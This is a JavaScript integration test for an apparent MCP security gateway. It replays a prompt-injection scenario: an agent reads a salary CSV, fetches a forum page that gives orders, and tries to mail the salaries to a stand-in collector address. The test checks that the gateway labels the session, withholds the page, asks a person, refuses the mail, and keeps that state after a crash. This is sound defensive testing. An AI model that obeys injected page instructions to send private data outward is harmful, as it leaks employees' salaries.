// The salary sheet, the poisoned page and the mail: what an agent sees marks its session, and what it
// then tries is asked about or stopped. With clients that can be asked and one that cannot; the gateway
// is killed in the middle, and knows afterwards what it knew, also of clients that noticed nothing.
//   --touchstone PATH
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { connect } from './lib/clients.mjs';
import { configuration, ready_line } from './lib/gateway.mjs';
import { options, patient, ready, same, scratch_dir, start, stop, truth, Verdict, within } from './lib/harness.mjs';

const { touchstone } = options({ touchstone: { type: 'string' } });
if (!touchstone) {
  console.error('--touchstone PATH, please');
  process.exit(2);
}
const verdict = new Verdict('story');
const text = result => result.content[0].text;
const sheet = 'demo://files/hr/salaries.csv';
const page = 'https://forum.example/travel-expenses';
const collector = 'archive@collector.example';

// A person who answers one way until told another.
class Person {
  answer = 'allow_once';
  asked = [];
  ready = Promise.resolve(); // to answer
  reply = async params => {
    this.asked.push(params.message);
    await this.ready;
    return { action: 'accept', content: { decision: this.answer } };
  };
}

// The demo's servers on one folder and one store, behind gateways that come and go.
class Office {
  constructor() {
    this.root = scratch_dir();
    const server = name => [name, { command: touchstone, args: ['demo-server', name, '--root', this.root] }];
    this.config = configuration(Object.fromEntries(['files', 'web', 'mail'].map(server)), {
      annotate: 'enrich', policy: 'balanced', store: join(scratch_dir(), 'store.db'), approvals: { wait: '1ms', waitForClient: '1500ms' }
    });
  }
  async open() {
    const port = this.origin ? new URL(this.origin).port : 0; // whoever stays finds it where it was
    this.child = start(touchstone, ['run', '--config', this.config, '--listen', `127.0.0.1:${port}`], { env: { XDG_RUNTIME_DIR: scratch_dir() } });
    [, this.origin] = await ready(this.child, ready_line);
  }
  join(kind, person) { return connect(kind, { url: `${this.origin}/mcp` }, { person }); }
  // No time to write anything down.
  async crash() { await stop(this.child, 'SIGKILL'); }
  close() { return stop(this.child); }

  // `approvals list` says by its exit code that something waits.
  async type(...args) {
    const child = start(touchstone, [...args, '--config', this.config], { most: 1e6 });
    await within(patient, args.join(' '), child.gone);
    truth(child.exitCode === 0 || (args[1] === 'list' && child.exitCode === 1), `${args.join(' ')} exits with ${child.exitCode}:\n${child.output}`);
    return child.output;
  }
  async look(...args) { return JSON.parse(await this.type(...args, '--format', 'json')); }
  get outbox() {
    const file = join(this.root, 'mail/outbox.jsonl');
    return existsSync(file) ? readFileSync(file, 'utf8').split('\n').filter(Boolean).map(line => JSON.parse(line)) : [];
  }
}

const read_sheet = (client, how) => client.call('files__read_file', { path: 'hr/salaries.csv' }, how);
const fetch_page = (client, how) => client.call('web__fetch_page', { url: page }, how);
const mail_to = (client, to, body, how) => client.call('mail__send_mail', { to, subject: 'travel expenses', body }, how);

function has_seen(label, { untrusted, malicious }) {
  truth(label.classes.includes('financial'), `no financial data in ${JSON.stringify(label)}`);
  truth(label.attribution.includes(sheet) && label.attribution.includes('mcp://files/read_file'), JSON.stringify(label));
  same([label.private ?? false, label.untrusted ?? false, label.malicious ?? false], [true, untrusted, malicious], JSON.stringify(label));
}

// Reads like a person: what is shown must be enough to decide, which has where it comes from and where
// it would go.
function shows_the_attack(prompt, body) {
  for (const part of ['mail__send_mail', collector, JSON.stringify(body.split('\n')[1]).slice(1, -1), 'ask-after-attack', 'financial', 'mcp://files/read_file'])
    truth(prompt.includes(part), `the prompt does not show ${part}:\n${prompt}`);
  truth(/% of .*body.* comes from/.test(prompt), `no flow in\n${prompt}`);
  truth(/stands only in untrusted content/.test(prompt), `no destination in\n${prompt}`);
}

async function play(kind, { marker }) {
  const check = (what, body) => verdict.check(`${kind}: ${what}`, body);
  const office = new Office();
  await office.open();
  const how = marker ? { meta: { 'dev.touchstone/session': marker } } : {};
  const stays = !marker && !kind.includes('pinned'); // its session id must be enough
  let key = marker ? `marker:${marker}` : 'principal:local';
  const label = async () => (await office.look('sessions', 'show', key)).label;
  const person = new Person();
  let client = await office.join(kind, person.reply);
  let body;

  await check('the sheet makes the session financial, and says where it was read', async () => {
    const sheet_read = await read_sheet(client, how);
    body = text(sheet_read);
    truth(body.includes('Greta Halvorsen'), body);
    truth(JSON.stringify(sheet_read).includes(sheet), `no attribution: ${JSON.stringify(sheet_read)}`);
    if (stays) [{ key }] = await office.look('sessions', 'list');
    has_seen(await label(), { untrusted: false, malicious: false });
  });
  await check('a page that gives orders is held for a look, and marks the session either way', async () => {
    person.answer = 'deny';
    const held = await fetch_page(client, how);
    truth(held.isError && !text(held).includes('collector'), `not held: ${text(held)}`);
    has_seen(await label(), { untrusted: true, malicious: true });
    person.answer = 'allow_once';
    truth(text(await fetch_page(client, how)).includes(collector), 'the page');
    has_seen(await label(), { untrusted: true, malicious: true });
    truth((await label()).attribution.includes(page), 'where it was read');
  });
  await check('the mail is asked about, with all that matters, and a no is a no', async () => {
    person.answer = 'deny';
    person.asked.length = 0;
    const refused = await mail_to(client, collector, body, how);
    truth(refused.isError && /denied/.test(text(refused)), text(refused));
    same([person.asked.length, office.outbox.length], [1, 0], 'questions and mails');
    shows_the_attack(person.asked[0], body);
  });

  await office.crash();
  if (!stays) await client.close().catch(() => {});
  await office.open();
  if (!stays) client = await office.join(kind, person.reply);

  await check('after a crash the session is what it was', async () => {
    has_seen(await label(), { untrusted: true, malicious: true });
    person.asked.length = 0;
    const same_call = await mail_to(client, collector, body, how);
    truth(same_call.isError && /Nobody is asked about the same call again/.test(text(same_call)), text(same_call));
    same([person.asked.length, office.outbox.length], [0, 0], 'questions and mails after a no');
    const more = `${body}\nKind regards`;
    truth((await mail_to(client, collector, more, how)).isError, 'it was sent');
    same([person.asked.length, office.outbox.length], [1, 0], 'questions and mails');
    shows_the_attack(person.asked[0], more);
    person.answer = 'allow_once';
    same(text(await mail_to(client, 'accountant@ledger.example', 'As you asked.', how)), 'Sent to accountant@ledger.example.', 'a yes');
    same(office.outbox.map(it => it.to), ['accountant@ledger.example'], 'the outbox');
  });
  await check('the commands tell the story', async () => {
    const decisions = (await office.look('decisions', 'list', '--session', key)).reverse().filter(it => it.kind !== 'approval');
    const told = decisions.map(it => `${it.kind} ${it.server}/${it.tool} ${it.effect} ${it.body.outcome}`);
    // Until a modern client comes back, what it is asked about is not made or not delivered.
    const while_asked = client.modern ? ['result web/fetch_page escalate withheld'] : [];
    const while_mail_asked = client.modern ? ['call mail/send_mail escalate refused'] : [];
    same(told, [
      'call files/read_file allow forwarded',
      'call web/fetch_page allow forwarded', ...while_asked, 'result web/fetch_page escalate withheld',
      'call web/fetch_page allow forwarded', ...while_asked, 'result web/fetch_page escalate delivered',
      'call mail/send_mail escalate refused', 'call mail/send_mail escalate refused', 'call mail/send_mail escalate refused',
      ...while_mail_asked, 'call mail/send_mail escalate forwarded', 'result mail/send_mail allow delivered'
    ], 'the decisions');
    const mails = decisions.filter(it => it.kind === 'call' && it.tool === 'send_mail');
    const [refused, made] = [mails.at(0), mails.at(-1)];
    const story = await office.type('explain', refused.id);
    for (const part of ['called send_mail of mail. It was not made: a person had to agree, and local through the client said no.',
      'malicious, untrusted, private', '% of `/body` comes from mcp://files/read_file',
      '`/to` (mail) was first seen in mcp://web/fetch_page; only content that nobody vouches for names it', 'by the policy balanced',
      'rule ask-after-attack', 'yes session.label.malicious', 'Who was asked', 'deny by local'])
      truth(story.includes(part), `${part} is not in\n${story}`);
    truth(!story.includes(collector), `a value of the call is in the story:\n${story}`);
    truth(!story.includes('Halvorsen'), `the salaries are in the story:\n${story}`);
    const sent = await office.type('explain', made.id);
    truth(sent.includes('It was made: local through the client agreed. Its result was delivered.'), sent);
    const shown = await office.type('decisions', 'show', refused.id);
    for (const part of ['ask-after-attack', 'mcp://files/read_file', 'mcp://web/fetch_page']) truth(shown.includes(part), `${part} is not in\n${shown}`);
    truth(!shown.includes('Halvorsen'), `the salaries are in the record:\n${shown}`);
    truth((await office.type('decisions', 'list')).includes('mail / send_mail'), 'the list');
    truth((await office.type('sessions', 'list')).includes(key), 'the sessions');
    same((await office.look('approvals', 'list', '--all')).length, 5, 'approvals');
    same((await office.look('approvals', 'list')).length, 0, 'open ones');
  });
  if (!client.modern) await check('a person may answer after the call was told to come again', async () => {
    let decide;
    person.ready = new Promise(resolve => { decide = resolve; });
    person.asked.length = 0;
    const slowly = () => mail_to(client, 'late@ledger.example', 'In peace.', how);
    const told = text(await slowly());
    truth(/has not answered yet/.test(told) && /touchstone approvals allow/.test(told), told);
    decide();
    while ((await office.look('approvals', 'list')).length > 0);
    same(text(await slowly()), 'Sent to late@ledger.example.', 'the same call');
    same(person.asked.length, 1, 'questions');
  });
  await client.close();
  await office.close();
}

await play('sdk1-http', { marker: 'story-1' });
await play('sdk1-http', {});
await play('sdk2-legacy-http', { marker: 'story-2' });
await play('sdk2-legacy-http', {});
await play('sdk2-pinned-http', {});
await play('sdk2-pinned-http', { marker: 'story-3' });

await verdict.check('a client that cannot be asked: a person at the command line allows what it may do', async () => {
  const office = new Office();
  await office.open();
  const meta = { 'dev.touchstone/session': 'unattended' };
  let client = await office.join('sdk1-http', null);
  const body = text(await read_sheet(client, { meta }));
  const held = await fetch_page(client, { meta });
  truth(held.isError && !text(held).includes('collector'), text(held));
  const [handle] = /touchstone:\/\/value\/\w+/.exec(text(held)) ?? [];
  truth((await office.type('approvals', 'open', handle)).includes(collector), 'the withheld page');

  // The page goes into a file unread, once a person has looked at it; whoever reads the file gets it held again.
  const archive = () => client.call('files__write_file', { path: 'archive/page.md', text: `Unread:\n${handle}` }, { meta });
  truth((await archive()).isError, 'the page was saved and nobody was asked');
  const [{ id: saving }] = await office.look('approvals', 'list').then(all => all.filter(it => it.tool === 'write_file'));
  const asked = await office.type('approvals', 'show', saving);
  for (const part of [handle, collector, 'malicious content', 'mcp://web/fetch_page']) truth(asked.includes(part), `${part} is not in\n${asked}`);
  await office.type('approvals', 'allow', saving);
  same(text(await archive()), 'Wrote archive/page.md.', 'the receipt');
  const saved = readFileSync(join(office.root, 'archive/page.md'), 'utf8');
  truth(saved.startsWith('Unread:\n') && saved.includes(collector) && !saved.includes('touchstone:'), saved);
  const again = await client.call('files__read_file', { path: 'archive/page.md' }, { meta });
  truth(again.isError && !text(again).includes('collector'), text(again));

  const refused = await mail_to(client, 'accountant@ledger.example', body, { meta });
  truth(refused.isError, text(refused));
  const [, id] = /touchstone approvals allow (\S+?)[`;\s]/.exec(text(refused)) ?? [];
  truth(id, `no ticket in: ${text(refused)}`);
  await office.crash();
  await client.close().catch(() => {});
  await office.open();
  client = await office.join('sdk1-http', null);

  truth((await office.look('approvals', 'list')).some(it => it.id === id), 'the ticket is gone');
  const shown = await office.type('approvals', 'show', id);
  for (const part of ['send_mail', 'accountant@ledger.example', 'Halvorsen', 'financial', 'ask-irreversible']) truth(shown.includes(part), `${part} is not in\n${shown}`);
  await office.type('approvals', 'allow', id);
  truth((await mail_to(client, collector, body, { meta })).isError, 'another call passed');
  same(text(await mail_to(client, 'accountant@ledger.example', body, { meta })), 'Sent to accountant@ledger.example.', 'the allowed call');
  truth((await mail_to(client, 'accountant@ledger.example', body, { meta })).isError, 'the approval was used twice');
  same(office.outbox.map(it => it.to), ['accountant@ledger.example'], 'the outbox');
  await client.close();
  await office.close();
});

verdict.finish();
